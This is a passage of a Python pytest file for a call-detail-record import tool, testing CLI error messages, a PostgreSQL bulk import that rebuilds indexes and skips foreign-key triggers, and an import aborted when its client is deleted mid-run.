                                 "--rejects", str(tmp_path / "again.csv"), str(MASTER)], env=env)
    assert again.exit_code == 0
    assert again.stdout.splitlines()[0] == (f"imported 0 calls (16 already imported, 1 repeated in the file, "
                                            f"15 rejected rows -> {tmp_path / 'again.csv'}) from 37 rows")
    assert "read 37 rows" not in again.stderr

    unknown = runner.invoke(main, ["import-cdr", "--client", "nope", "--format", "asterisk-csv", str(MASTER)], env=env)
    assert (unknown.exit_code, unknown.stderr) == (
        2, "error: --client: no client with slug 'nope' (see: report-pipelines clients list)\n")
    missing = runner.invoke(main, ["import-cdr", "--client", "ny-support", "--format", "mapped-csv",
                                   "--mapping", str(tmp_path / "m.yaml"), str(MASTER)], env=env)
    assert (missing.exit_code, missing.stderr) == (2, f"error: --mapping: no such file: {tmp_path / 'm.yaml'}\n")
    for failed in (unknown, missing):
        assert failed.exception is None or isinstance(failed.exception, SystemExit)
        assert "Traceback" not in failed.output


def test_an_import_that_outweighs_the_table_rebuilds_its_indexes_and_leaves_every_constraint_valid(
        pg_engine: Engine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """PostgreSQL, an import at least as large as ``call_events``: the secondary indexes dropped and
    rebuilt, the calls moved by an anti-join (the first copy of a repeated id kept, ids stored already
    skipped), the foreign key's trigger skipped for the move only; the calls, the quarters and every
    index and constraint as an ordinary import leaves them."""
    from report_pipelines.adapters.db import bulk
    from report_pipelines.adapters.db.cdr_imports import CallImport
    from report_pipelines_tests.test_call_quarters import _kept, _truth

    client = add_client(pg_engine, "ny-support", "NY Support", "America/New_York")
    before = bulk.call_event_constraints(pg_engine)
    monkeypatch.setattr(bulk, "REBUILD_MIN_ROWS", 1)
    monkeypatch.setattr(bulk, "_MIN_ROW_BYTES", 10**9)  # any table counts as smaller than the import
    rebuilt, skipped, roles = [], [], []
    decide, skip, extend = bulk.rebuild_pays, bulk.skip_foreign_key_trigger, CallImport.extend_active_from
    monkeypatch.setattr(bulk, "rebuild_pays", lambda cursor, rows: rebuilt.append(decide(cursor, rows)) or rebuilt[-1])
    monkeypatch.setattr(bulk, "skip_foreign_key_trigger", lambda cursor, *table: skipped.append(skip(cursor, *table)) or skipped[-1])

    def extend_after_the_move(self, day, now):  # runs after the move, in the import's transaction
        roles.append(self.conn.exec_driver_sql("SHOW session_replication_role").scalar())
        return extend(self, day, now)
    monkeypatch.setattr(CallImport, "extend_active_from", extend_after_the_move)

    summary = import_cdr(pg_engine, "ny-support", "asterisk-csv", MASTER, data_dir=tmp_path)
    # The same 16 calls as any import of Master.csv: 1709998200.170 twice in the file (lines 13 and 37), stored once.
    assert (summary.calls, summary.imported, summary.duplicates, summary.repeated_in_file) == (17, 16, 0, 1)
    assert stored(pg_engine, client.id) == MASTER_CALLS
    assert (rebuilt, skipped, roles) == ([True], [True], ["origin"])
    again = import_cdr(pg_engine, "ny-support", "asterisk-csv", MASTER, data_dir=tmp_path)
    assert (again.imported, again.duplicates, rebuilt) == (0, 16, [True, True])
    assert stored(pg_engine, client.id) == MASTER_CALLS
    assert bulk.call_event_constraints(pg_engine) == before and all(before.values())
    assert _kept(pg_engine) == _truth(pg_engine) and sum(n for n, _ in _kept(pg_engine).values()) == 16


def test_a_client_deleted_during_the_import_stops_it_before_an_unchecked_insert(pg_engine: Engine, tmp_path: Path,
                                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """PostgreSQL: the calls are inserted with the foreign key's trigger skipped, so the import locks
    the client's row first and finds it gone: a clear error naming the client, and no call without a client."""
    from report_pipelines.adapters.db.cdr_imports import CallImport

    client = add_client(pg_engine, "gone", "Gone", "UTC")
    merge = CallImport.merge

    def deleted_meanwhile(self, **kwargs):  # another session deletes the client after the file was staged
        with pg_engine.begin() as conn:
            conn.exec_driver_sql(f"DELETE FROM clients WHERE id = {client.id}")
        return merge(self, **kwargs)
    monkeypatch.setattr(CallImport, "merge", deleted_meanwhile)
    with pytest.raises(NotFound) as caught:
        import_cdr(pg_engine, "gone", "asterisk-csv", MASTER, data_dir=tmp_path)
    assert caught.value.field == "--client" and f"client {client.id} was deleted during the import" in str(caught.value)
    with pg_engine.connect() as conn:
        assert conn.exec_driver_sql("SELECT count(*) FROM call_events").scalar() == 0
